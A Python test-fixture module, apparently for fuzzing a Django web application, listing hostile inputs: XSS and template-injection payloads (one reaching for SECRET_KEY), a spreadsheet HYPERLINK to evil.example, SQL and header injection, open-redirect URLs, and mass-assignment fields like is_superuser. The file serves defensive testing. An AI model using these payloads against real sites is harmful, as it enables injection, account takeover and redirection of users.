"""What nobody means to type: bad values, as the bytes that arrive."""

import os
from zlib import crc32

MEGABYTE = 1_000_000

# Would run, were it not escaped. MARK finds it again.
MARK = "xss-mark"
SCRIPTS = (
    f"<script>alert('{MARK}')</script>",
    f'"><img src=x onerror="alert(\'{MARK}\')">',
    f"javascript:alert('{MARK}')",
    f"[{MARK}](javascript:alert(1))",
    f"</textarea></title><svg onload=alert('{MARK}')>",
    "{{ 7*7 }}{% debug %}{{ settings.SECRET_KEY }}",
    f'=HYPERLINK("http://evil.example/?{MARK}")',
)

TEXTS = (
    "",
    " ",
    "\x00",
    "a\x00b",
    "\x01\x08\x0b\x0c\x1b\x7f\x85",
    "line\r\nBcc: evil@evil.example\n\r",
    "‮\u2066﻿​\u2028\u2029",
    "￾￿\U0010ffff",
    "é" * 5_000,
    "😀" * 300,
    "'; DROP TABLE accounts_user; --",
    "%s%n%(x)s{0}{x}\\",
    *SCRIPTS,
)
# Bytes that are no text, and halves of surrogate pairs.
BYTES = (b"\xed\xa0\x80", b"a\xff\xfeb", b"\xc0\x80", b"\xf8\x88\x80\x80\x80")
NUMBERS = (
    "-1", "0", "1e9", "1e400", "NaN", "Infinity", "-0.0", "٣", "1_000", "0x10", "1.5", "99999999",
    "2147483648", "9223372036854775808", "9" * 60, "9" * 5_000,
)  # fmt: skip
MOMENTS = (
    "9999-99-99", "0001-01-01", "9999-12-31", "2026-02-30", "2026-03-08T02:30", "0001-01-01T00:00",
    "9999-12-31T23:59", "2026-11-01T01:30", "24:00", "25:61", "23:59:60", "00:00",
)  # fmt: skip
CODES = ('{"a": "\\ud800"}', "[]", '{"id": []}', "null", '{"type": 1}', "[" * 2_000)

EVERY = (
    *(text.encode() for text in TEXTS),
    *BYTES,
    *(text.encode() for text in (*NUMBERS, *MOMENTS, *CODES)),
)

# Ways to another site, or to a program, in the place of a way back.
AWAY = (
    "https://evil.example/", "//evil.example", "///evil.example", "/\\evil.example",
    "\\\\evil.example", "https:evil.example", "http:///evil.example", "https:/evil.example",
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,<script>", "\t//evil.example",
    "/\t/evil.example", "\x00//evil.example", "http://testserver@evil.example/",
    "http://evil.example#@testserver/", "http://evil.example\\@testserver/", "//evil%2eexample",
    "\u2028//evil.example", "//\u3002evil.example", "ftp://testserver/", "http://[::1",
    "//testserver.evil.example/", "/\r\nSet-Cookie: a=b", "é" * 500,
)  # fmt: skip

# Facts that no form asks for, or not this one of this person.
EXTRA = {
    "status": "offered", "is_staff": "1", "is_superuser": "1", "is_active": "0", "person": "1",
    "person_id": "1", "community": "1", "community_id": "1", "cohort": "1", "cohort_id": "1",
    "id": "1", "pk": "1", "uuid": "00000000-0000-4000-8000-000000000000", "role": "facilitator",
    "email": "mallory@evil.example", "pending_status": "offered", "published_at": "2020-01-01",
    "agrees_to_use": "on", "reviewer": "1", "interviewer": "1", "owner": "1", "version": "-1",
    "_method": "DELETE",
}  # fmt: skip


def is_deep():
    """Whether this run takes its time: `make fuzz`."""
    return os.environ.get("HYPOTHESIS_PROFILE") == "deep"


def some(values, number, *, of):
    """Return ``number`` of ``values``, others for each ``of``; all of them in a deep run."""
    return values if is_deep() else a_few(values, number, of=of)


def a_few(values, number, *, of):
    """Return ``number`` of ``values``, others for each ``of``."""
    start = crc32(repr(of).encode())
    return [values[(start + 7 * n) % len(values)] for n in range(number)]
